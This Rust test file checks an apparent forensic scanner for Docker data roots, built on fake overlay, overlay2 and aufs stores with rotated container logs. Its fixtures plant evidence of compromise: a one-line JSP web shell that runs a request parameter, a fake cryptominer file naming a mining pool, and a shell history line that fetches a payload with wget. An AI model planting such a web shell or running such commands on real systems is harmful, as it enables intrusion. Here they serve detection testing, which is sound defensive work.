//! Docker data roots of every era built in code: a Docker 17-18 root holding both
//! `image/overlay` and `image/overlay2` (one container on each: each container's driver comes
//! from its own config or layer store, never from a root-wide guess, so its read-write layer
//! and own changes are found), an aufs root (`image/aufs`, `aufs/diff`, `aufs/layers`), and
//! per container its logs' span (first and last record, records, streams, rotated files).

use std::path::Path;

use serde_json::{json, Value};
use sha2::Digest;

use crate::util::{run, run_json, validate_against_schema, write_files};

fn sha(b: &[u8]) -> String {
    sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect()
}

fn hex(c: char) -> String {
    c.to_string().repeat(64)
}

/// An image config of one layer whose diff_id is `diff`; (config bytes, its id hex).
fn image(diff: &str, cmd: &str) -> (Vec<u8>, String) {
    let config = serde_json::to_vec(&json!({
        "architecture": "amd64", "os": "linux", "created": "2018-03-01T00:00:00Z",
        "config": {"Cmd": [cmd]},
        "history": [{"created": "2018-03-01T00:00:00Z", "created_by": "ADD rootfs /"}],
        "rootfs": {"type": "layers", "diff_ids": [diff]},
    }))
    .unwrap();
    let id = sha(&config);
    (config, id)
}

/// A container's `config.v2.json`; `driver` None leaves `Driver` out (the layer store says).
fn container(cid: &str, name: &str, image: &str, running: bool, driver: Option<&str>) -> Vec<u8> {
    let mut v = json!({
        "ID": cid, "Name": format!("/{name}"), "Image": format!("sha256:{image}"),
        "Created": "2018-03-02T00:00:00Z", "Path": "sh", "Args": [],
        "Config": {"Image": "app", "Cmd": ["sh"]},
        "State": {"Running": running, "StartedAt": "2018-03-02T00:00:01Z"},
    });
    if let Some(d) = driver {
        v["Driver"] = json!(d);
    }
    serde_json::to_vec(&v).unwrap()
}

fn json_line(msg: &str, stream: &str, time: &str) -> String {
    format!("{}\n", json!({"log": format!("{msg}\n"), "stream": stream, "time": time}))
}

fn gz(b: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

const D: &str = "var/lib/docker";

/// Docker 17-18 after a switch from overlay to overlay2: both image stores, `web` on
/// overlay2 (its config names the driver), `old` on overlay (its config names none: the
/// overlay layer store records its mount). Each has rotated json-file logs.
fn docker_17(dir: &Path) -> (String, String) {
    let (web, old) = (hex('1'), hex('2'));
    let (cache2, mount2, cache1, mount1) = (hex('a'), hex('b'), hex('c'), hex('d'));
    let diff = format!("sha256:{}", sha(b"layer"));
    let (cfg2, id2) = image(&diff, "httpd");
    let (cfg1, id1) = image(&diff, "sh");
    let ldb = |drv: &str, f: &str| format!("{D}/image/{drv}/layerdb/sha256/{}/{f}", &diff[7..]);
    let mut files: Vec<(String, Vec<u8>)> = vec![
        // overlay2's store and layers.
        (format!("{D}/image/overlay2/imagedb/content/sha256/{id2}"), cfg2),
        (ldb("overlay2", "diff"), diff.clone().into_bytes()),
        (ldb("overlay2", "cache-id"), cache2.clone().into_bytes()),
        (format!("{D}/image/overlay2/layerdb/mounts/{web}/mount-id"), mount2.clone().into_bytes()),
        (format!("{D}/image/overlay2/layerdb/mounts/{web}/init-id"), format!("{mount2}-init").into_bytes()),
        (format!("{D}/overlay2/{cache2}/diff/bin/sh"), b"\x7fELF busybox".to_vec()),
        (format!("{D}/overlay2/{mount2}-init/diff/etc/hosts"), vec![]),
        (
            format!("{D}/overlay2/{mount2}/diff/var/www/html/cmd.jsp"),
            b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>".to_vec(),
        ),
        // overlay's (v1) store and layers: `root/` for image layers, `upper/` for containers.
        (format!("{D}/image/overlay/imagedb/content/sha256/{id1}"), cfg1),
        (ldb("overlay", "diff"), diff.clone().into_bytes()),
        (ldb("overlay", "cache-id"), cache1.clone().into_bytes()),
        (format!("{D}/image/overlay/layerdb/mounts/{old}/mount-id"), mount1.clone().into_bytes()),
        (format!("{D}/overlay/{cache1}/root/bin/sh"), b"\x7fELF busybox".to_vec()),
        (format!("{D}/overlay/{mount1}/lower-id"), cache1.clone().into_bytes()),
        (
            format!("{D}/overlay/{mount1}/upper/tmp/kdevtmpfsi"),
            b"\x7fELF stratum+tcp://pool.example:3333".to_vec(),
        ),
        (
            format!("{D}/containers/{web}/config.v2.json"),
            container(&web, "web", &id2, true, Some("overlay2")),
        ),
        (format!("{D}/containers/{old}/config.v2.json"), container(&old, "old", &id1, false, None)),
        // web: two rotated files and the current one (stdout and stderr).
        (
            format!("{D}/containers/{web}/{web}-json.log.2"),
            json_line("start", "stdout", "2018-03-02T00:00:02Z").into_bytes(),
        ),
        (
            format!("{D}/containers/{web}/{web}-json.log.1"),
            [
                json_line("GET / 200", "stdout", "2018-03-02T00:10:00Z"),
                json_line("warn: slow", "stderr", "2018-03-02T00:11:00Z"),
            ]
            .concat()
            .into_bytes(),
        ),
        (
            format!("{D}/containers/{web}/{web}-json.log"),
            [
                json_line("GET /cmd.jsp?c=id 200", "stdout", "2018-03-03T08:00:00.5Z"),
                json_line("error: x", "stderr", "2018-03-03T09:30:00Z"),
            ]
            .concat()
            .into_bytes(),
        ),
        // old: one rotated gzip file and the current one.
        (
            format!("{D}/containers/{old}/{old}-json.log.1.gz"),
            gz(json_line("boot", "stdout", "2018-03-02T01:00:00Z").as_bytes()),
        ),
        (
            format!("{D}/containers/{old}/{old}-json.log"),
            json_line("done", "stdout", "2018-03-02T01:05:00Z").into_bytes(),
        ),
    ];
    let local = hex('4');
    let entries = [
        crate::wild::local_entry("stdout", 1_764_251_000_000_000_000, b"ready\n", false),
        crate::wild::local_entry("stderr", 1_764_252_000_000_000_000, b"oops\n", false),
    ]
    .concat();
    files.push((
        format!("{D}/containers/{local}/config.v2.json"),
        container(&local, "quiet", &id2, false, Some("overlay2")),
    ));
    files.push((format!("{D}/containers/{local}/local-logs/container.log"), entries));
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    write_files(dir, &refs);
    (web, old)
}

fn root(v: &Value) -> &Value {
    &v["bundles"][0]["data_root"]["docker"][0]
}

fn container_of<'a>(r: &'a Value, id: &str) -> &'a Value {
    r["containers"].as_array().unwrap().iter().find(|c| c["id"] == id).unwrap()
}

fn own_changes(v: &Value, name: &str, id: &str) -> Vec<String> {
    v["bundles"][0]["image"]["data_root_changes"]
        .as_array()
        .or_else(|| v["bundles"][0]["data_root_changes"].as_array())
        .unwrap()
        .iter()
        .filter(|c| c["source"] != "volume" && (c["container"] == name || c["container"] == id))
        .flat_map(|c| {
            c["changes"].as_array().unwrap().iter().map(|x| x["path"].as_str().unwrap().to_string())
        })
        .collect()
}

#[test]
fn a_docker_17_root_with_overlay_and_overlay2_finds_each_containers_layer() {
    let dir = tempfile::tempdir().unwrap();
    let (web, old) = docker_17(dir.path());
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    let r = root(&v);
    assert_eq!(r["drivers"], json!(["overlay", "overlay2"]));
    let w = container_of(r, &web);
    assert_eq!((w["driver"].as_str(), w["driver_basis"].as_str()), (Some("overlay2"), Some("config")));
    assert_eq!(w["mount_id"], hex('b'));
    assert_eq!(w["upper_dir"], format!("{D}/overlay2/{}/diff", hex('b')));
    let o = container_of(r, &old);
    assert_eq!((o["driver"].as_str(), o["driver_basis"].as_str()), (Some("overlay"), Some("layer-store")));
    assert_eq!(o["mount_id"], hex('d'));
    assert_eq!(o["upper_dir"], format!("{D}/overlay/{}/upper", hex('d')));
    assert_eq!(o["layer_dirs"][1], format!("{D}/overlay/{}/root", hex('c')));
    // Each container's own changes, and nothing of the other's.
    let wc = own_changes(&v, "web", &web);
    assert!(
        wc.contains(&"/var/www/html/cmd.jsp".to_string()) && !wc.contains(&"/tmp/kdevtmpfsi".to_string()),
        "{wc:?}"
    );
    let oc = own_changes(&v, "old", &old);
    assert!(
        oc.contains(&"/tmp/kdevtmpfsi".to_string()) && !oc.contains(&"/var/www/html/cmd.jsp".to_string()),
        "{oc:?}"
    );
    // The text report says which driver and why.
    let out = run(&["scan", "--format", "text", dir.path().to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("read-write layer (overlay2, from its config)"), "{text}");
    assert!(text.contains("read-write layer (overlay, from the layer store)"), "{text}");
}

#[test]
fn an_aufs_root_gives_the_containers_branch_and_changes() {
    let dir = tempfile::tempdir().unwrap();
    let cid = hex('3');
    let (cache, mount) = (hex('e'), hex('f'));
    let diff = format!("sha256:{}", sha(b"aufs layer"));
    let (cfg, id) = image(&diff, "sh");
    let files: Vec<(String, Vec<u8>)> = vec![
        (format!("{D}/image/aufs/imagedb/content/sha256/{id}"), cfg),
        (format!("{D}/image/aufs/layerdb/sha256/{}/diff", &diff[7..]), diff.clone().into_bytes()),
        (format!("{D}/image/aufs/layerdb/sha256/{}/cache-id", &diff[7..]), cache.clone().into_bytes()),
        (format!("{D}/image/aufs/layerdb/mounts/{cid}/mount-id"), mount.clone().into_bytes()),
        (format!("{D}/image/aufs/layerdb/mounts/{cid}/init-id"), format!("{mount}-init").into_bytes()),
        (format!("{D}/aufs/diff/{cache}/bin/sh"), b"\x7fELF busybox".to_vec()),
        (format!("{D}/aufs/diff/{cache}/etc/motd"), b"hello".to_vec()),
        (format!("{D}/aufs/diff/{mount}-init/etc/hosts"), vec![]),
        (format!("{D}/aufs/diff/{mount}/root/.ash_history"), b"wget http://10.9.9.9/x -O /tmp/x\n".to_vec()),
        (format!("{D}/aufs/diff/{mount}/etc/.wh.motd"), vec![]),
        (format!("{D}/aufs/diff/{mount}/.wh..wh.aufs"), vec![]),
        (format!("{D}/aufs/layers/{mount}"), format!("{mount}-init\n{cache}\n").into_bytes()),
        (format!("{D}/aufs/layers/{cache}"), vec![]),
        (format!("{D}/containers/{cid}/config.v2.json"), container(&cid, "shell", &id, true, Some("aufs"))),
    ];
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    write_files(dir.path(), &refs);
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    let r = root(&v);
    let c = container_of(r, &cid);
    assert_eq!((c["driver"].as_str(), c["driver_basis"].as_str()), (Some("aufs"), Some("config")));
    assert_eq!(c["mount_id"], mount);
    assert_eq!(c["upper_dir"], format!("{D}/aufs/diff/{mount}"));
    let dirs: Vec<&str> = c["layer_dirs"].as_array().unwrap().iter().map(|d| d.as_str().unwrap()).collect();
    assert_eq!(
        dirs,
        [
            format!("{D}/aufs/diff/{mount}"),
            format!("{D}/aufs/diff/{mount}-init"),
            format!("{D}/aufs/diff/{cache}")
        ]
    );
    let ch = own_changes(&v, "shell", &cid);
    assert!(ch.contains(&"/root/.ash_history".to_string()), "{ch:?}");
    assert!(ch.contains(&"/etc/motd".to_string()), "the aufs whiteout is a deletion: {ch:?}");
    assert!(!ch.iter().any(|p| p.contains(".wh.")), "aufs meta files are no changes: {ch:?}");
}

#[test]
fn each_containers_logs_span_counts_every_record_of_its_rotated_files() {
    let dir = tempfile::tempdir().unwrap();
    let (web, old) = docker_17(dir.path());
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let r = root(&v);
    let w = &container_of(r, &web)["log_span"];
    assert_eq!(w["first"], "2018-03-02T00:00:02.000000000Z");
    assert_eq!(w["last"], "2018-03-03T09:30:00.000000000Z");
    let counts = |s: &Value, k: &[&str]| k.iter().map(|k| s[*k].as_u64().unwrap()).collect::<Vec<_>>();
    assert_eq!(
        counts(w, &["records", "stdout", "stderr", "undated", "files", "rotated_files"]),
        [5, 3, 2, 0, 3, 2]
    );
    let o = &container_of(r, &old)["log_span"];
    // A third container logging with the `local` driver: its entries counted alike.
    let l = &container_of(r, &hex('4'))["log_span"];
    assert_eq!(counts(l, &["records", "stdout", "stderr", "files"]), [2, 1, 1, 1], "{l}");
    assert_eq!(l["last"], "2025-11-27T14:00:00.000000000Z");
    assert_eq!(
        (o["first"].as_str(), o["last"].as_str()),
        (Some("2018-03-02T01:00:00.000000000Z"), Some("2018-03-02T01:05:00.000000000Z"))
    );
    assert_eq!(counts(o, &["records", "stdout", "stderr", "files", "rotated_files"]), [2, 2, 0, 2, 1]);
    // The gzip file's bytes are the log's, decompressed.
    let plain = json_line("boot", "stdout", "2018-03-02T01:00:00Z").len()
        + json_line("done", "stdout", "2018-03-02T01:05:00Z").len();
    assert_eq!(o["bytes"], plain as u64);
    // Each log scanned says its own span.
    let scanned = v["bundles"][0]["logs_scanned"].as_array().unwrap();
    let cur = scanned
        .iter()
        .find(|l| l["locator"]["artifact"] == format!("{D}/containers/{web}/{web}-json.log"))
        .unwrap();
    assert_eq!((cur["span"]["records"].as_u64(), cur["span"]["rotated_files"].as_u64()), (Some(2), Some(0)));
    // One glance: the text report's container lines, and the HTML page's table.
    let out = run(&["scan", "--format", "text", dir.path().to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("logs: 5 record(s) (stdout 3, stderr 2), 2018-03-02T00:00:02Z .. 2018-03-03T09:30:00Z; 3 file(s), 2 rotated"),
        "{text}"
    );
    let out = run(&["scan", "--format", "html", dir.path().to_str().unwrap()]);
    let html = String::from_utf8_lossy(&out.stdout);
    assert!(html.contains("Data-root containers (3)") && html.contains("5 (3 / 2)"), "{html}");
}
